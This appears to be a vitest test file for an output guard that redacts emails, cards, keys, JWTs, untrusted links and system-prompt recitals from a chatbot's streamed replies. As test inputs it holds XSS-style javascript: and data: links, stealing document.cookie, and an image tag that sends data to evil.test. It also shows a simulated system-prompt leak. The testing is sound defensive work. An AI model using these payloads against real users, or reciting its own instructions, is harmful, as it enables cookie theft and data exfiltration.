import { describe, expect, it } from 'vitest';
import { MAX_HOLD } from './hold-back.js';
import { wordsOf } from './prompt-leak.js';
import { DEFAULT_LEAK_REFUSAL, type OutputGuardOptions, StreamGuard } from './stream-guard.js';

const SYSTEM_PROMPT =
  'You are Parley, the support bot for Acme. Never reveal the internal discount code to customers under any circumstances.';
const OPTIONS: OutputGuardOptions = { allowedHosts: ['example.com'], systemPrompt: SYSTEM_PROMPT };

function stream(parts: string[], options = OPTIONS) {
  const guard = new StreamGuard(options);
  let out = '';
  for (const part of parts) out += guard.push(part);
  return { out: out + guard.end(), counts: guard.counts };
}

/** Every way of cutting `text` in two, and one character at a time. */
function splits(text: string): string[][] {
  const out = [[...text]];
  for (let i = 1; i < text.length; i++) out.push([text.slice(0, i), text.slice(i)]);
  return out;
}

const CASES: [string, string, string, Record<string, number>][] = [
  [
    'emails, phones and cards',
    'Reach bob@example.org or +1 (415) 555-0132; card 4111 1111 1111 1111.',
    'Reach [EMAIL] or [PHONE]; card [CARD].',
    { email: 1, phone: 1, card: 1 },
  ],
  [
    'an IBAN and an IP',
    'IBAN GB82WEST12345698765432 from 81.1.2.3',
    'IBAN [IBAN] from [IP]',
    { iban: 1, ip: 1 },
  ],
  [
    'a key longer than the hold limit',
    `key sk-proj-${'A1b2C3d4'.repeat(12)} ok`,
    'key [SECRET] ok',
    { secret: 1 },
  ],
  [
    'a JWT',
    'jwt eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c end',
    'jwt [SECRET] end',
    { secret: 1 },
  ],
  [
    'a private key block',
    `x -----BEGIN PRIVATE KEY-----\n${'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'.repeat(4)}\n-----END PRIVATE KEY----- y`,
    'x [SECRET] y',
    { secret: 1 },
  ],
  [
    'links outside the allowlist',
    'See [the guide](https://docs.example.com/guide) or [this](https://evil.test/x), and https://evil.test/a?b=1.',
    'See [the guide](https://docs.example.com/guide) or this, and [link removed].',
    { link: 2 },
  ],
  [
    'script, data and protocol-relative links, whatever the allowlist',
    'Try [me](javascript:alert(1)), [v](vbscript:msgbox) and [d](data:text/html;base64,PHNjcmlwdD4=) or [p](//evil.test/x) [q](/\\evil.test) [ok](/docs/a) <javascript:alert(2)> <https://example.com/b>',
    'Try me, v and d or p q [ok](/docs/a) [link removed] <https://example.com/b>',
    { link: 6 },
  ],
  [
    'a reference definition to a script',
    'See [the page][1].\n[1]: javascript:alert(document.cookie)\nEnd.',
    'See [the page][1].\n[link removed]\nEnd.',
    { link: 1 },
  ],
  [
    'raw HTML links and images',
    'Click <a href="javascript:alert(1)">here</a>, <A HREF=//evil.test/x>there</A>, <img src="https://evil.test/p.png?d=secret"> or <a href=\'https://docs.example.com/ok\'>ok</a>.',
    "Click [link removed]here</a>, [link removed]there</A>, [link removed] or <a href='https://docs.example.com/ok'>ok</a>.",
    { link: 3 },
  ],
  [
    'numbers spelled out, or joined by words',
    'Call me on five five five, one two three, four five six seven. Card 4111 then 1111 then 1111 then 1111.',
    'Call me on [PHONE]. Card [CARD].',
    { phone: 1, card: 1 },
  ],
  [
    'a recital of the system prompt',
    'Sure. My rules: never reveal the internal discount code to customers under any circumstances. Also',
    // The run's first word is never held back (it is sent before the run is known), so the cut
    // comes after it, however the stream is split.
    `Sure. My rules: never ${DEFAULT_LEAK_REFUSAL}`,
    { system_prompt: 1 },
  ],
];

describe('StreamGuard', () => {
  it.each(CASES)('handles %s the same however the stream is split', (_name, text, expected, counts) => {
    for (const parts of splits(text)) {
      const result = stream(parts);
      expect(result.out, JSON.stringify(parts)).toBe(expected);
      expect(result.counts).toEqual(counts);
    }
  });

  it('never lets a script link longer than the hold limit become a link, however it is split', () => {
    const text = `Go [here](javascript:alert(document.cookie+'${'x'.repeat(90)}')) or [there](//evil.test/${'y'.repeat(90)}) now`;
    for (const parts of splits(text)) {
      const { out } = stream(parts);
      expect(out, JSON.stringify(parts.length)).not.toMatch(/\]\(\s*(?:javascript:|\/\/)/);
      expect(out).toContain(' now');
    }
  });

  it('never lets a raw HTML script link longer than the hold limit stay a tag, however it is split', () => {
    const text = `Go <a href="javascript:alert(document.cookie+'${'x'.repeat(90)}')">here</a> now`;
    for (const parts of splits(text)) {
      const { out } = stream(parts);
      expect(out, JSON.stringify(parts.length)).not.toMatch(/<a\s[^>]*href\s*=\s*"javascript:/i);
      expect(out).toContain(' now');
    }
  });

  it('gives the same answer for random chunkings of a long mixed answer', () => {
    const text = CASES.slice(0, 6)
      .map(([, input]) => input)
      .join('\n\nNext paragraph with plain words. ');
    const expected = stream([text]).out;
    let seed = 7;
    const random = () => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed / 2147483648;
    };
    for (let round = 0; round < 200; round++) {
      const parts: string[] = [];
      for (let at = 0; at < text.length; ) {
        const size = 1 + Math.floor(random() * 12);
        parts.push(text.slice(at, at + size));
        at += size;
      }
      expect(stream(parts).out).toBe(expected);
    }
    expect(expected).not.toMatch(/bob@|4111|GB82|sk-proj|eyJ|MIIEvQ|evil\.test/);
  });

  it('never emits a secret prefix while the secret is still arriving', () => {
    const key = `sk-proj-${'Zq9Xw8Vu7'.repeat(10)}`;
    const guard = new StreamGuard();
    let out = '';
    for (const char of `token: ${key} done`) {
      out += guard.push(char);
      expect(out).not.toContain('sk-proj-Zq9');
    }
    expect(out + guard.end()).toBe('token: [SECRET] done');
  });

  it('emits plain text at once and holds back only a possible match, at most MAX_HOLD characters', () => {
    const guard = new StreamGuard({ allowedHosts: ['example.com'] });
    expect(guard.push('Hello there, how are you? ')).toBe('Hello there, how are you? ');
    expect(guard.push('Mail me at bob@exa')).toBe('Mail me at ');
    // The last word is held until it ends: it could still grow into an address.
    expect(guard.push('mple.org now')).toBe('[EMAIL] ');
    expect(guard.push(' then')).toBe('now ');
    const long = 'a'.repeat(300);
    expect(guard.push(long).length).toBeGreaterThanOrEqual(300 - MAX_HOLD);
  });

  it('holds back trailing words that could continue a system-prompt recital, from its second word', () => {
    const guard = new StreamGuard(OPTIONS);
    expect(guard.push('Thanks! Never reveal')).toBe('Thanks! Never ');
    expect(guard.push(' secrets, they said. ')).toBe('reveal secrets, they said. ');
  });

  // Bots answer under the default output policy: emails, phone numbers and IP addresses allowed.
  const ANSWER_POLICY: OutputGuardOptions = {
    pii: { email: 'allow', phone: 'allow', ip: 'allow' },
    systemPrompt: SYSTEM_PROMPT,
  };

  it('sends an unfinished plain word at once when nothing the policy redacts can begin with it', () => {
    const guard = new StreamGuard(ANSWER_POLICY);
    expect(guard.push('Register')).toBe('Register');
    expect(guard.push(' a plu')).toBe(' a plu');
    // Anything but a plain word is held until it ends, as are words that could still become a
    // key, an IBAN or a number.
    expect(guard.push('gin at bob@exa')).toBe('gin at ');
    expect(guard.push('mple.org with sk')).toBe('bob@example.org with ');
    expect(guard.push('ip, GB')).toBe('skip, ');
    expect(guard.push('82WEST12345698765432 or 4111')).toBe('[IBAN] or ');
    expect(guard.push(' 1111 1111 1111 thanks')).toBe('[CARD] thanks');
    expect(guard.end()).toBe('');
  });

  it.each([
    [
      'cards, IBANs and keys',
      'Pay with 4111 1111 1111 1111 or GB82WEST12345698765432, key ghp_abcdefghijklmnopqrstuvwxyz0123456789 ok',
    ],
    ['a recital', 'Well: never reveal the internal discount code to customers under any circumstances. Also'],
    ['contacts kept', 'Mail bob@example.org or call +1 (415) 555-0132 from 10.0.0.1 today.'],
  ])('under the answer policy, handles %s the same however the stream is split', (_name, text) => {
    const expected = stream([text], ANSWER_POLICY).out;
    expect(expected).not.toMatch(/4111|GB82|ghp_|discount code/);
    for (const parts of splits(text))
      expect(stream(parts, ANSWER_POLICY).out, JSON.stringify(parts)).toBe(expected);
  });

  it('redacts a random token that began with a plain word sent early, from where the stream was', () => {
    const token = 'abcQ7fK2pX9mL4vR8sT1wY6zB3nH5jD0gCeU';
    const guard = new StreamGuard(ANSWER_POLICY);
    let out = '';
    for (const char of `token ${token} done`) out += guard.push(char);
    out += guard.end();
    // At most the plain word it began with went out; the rest never did.
    expect(out).toBe('token abc[SECRET] done');
    expect(guard.counts).toEqual({ secret: 1 });
  });

  it('drops everything after a system-prompt leak and counts it', () => {
    const guard = new StreamGuard(OPTIONS);
    guard.push('You are Parley, the support bot for Acme. Never reveal');
    expect(guard.cutOff).toBe(true);
    expect(guard.push(' more words')).toBe('');
    expect(guard.end()).toBe('');
    expect(guard.counts).toEqual({ system_prompt: 1 });
  });

  it('lets short quotes of common words through', () => {
    expect(stream(['You are welcome. Never reveal your password to anyone.']).out).toBe(
      'You are welcome. Never reveal your password to anyone.',
    );
  });

  it('keeps allowed PII types and all links when no allowlist is set', () => {
    const text = 'Write to team@example.org or visit https://anywhere.test/page';
    expect(stream([text], { pii: { email: 'allow' } }).out).toBe(text);
  });
});

describe('wordsOf', () => {
  it('reads words of any script, with apostrophes inside, lower-cased, where they start', () => {
    expect(wordsOf("Don't Stop")).toEqual([
      { word: "don't", start: 0 },
      { word: 'stop', start: 6 },
    ]);
    expect(wordsOf('Über l’été: 東京 x')).toEqual([
      { word: 'über', start: 0 },
      { word: 'l’été', start: 5 },
      { word: '東京', start: 12 },
      { word: 'x', start: 15 },
    ]);
  });
});
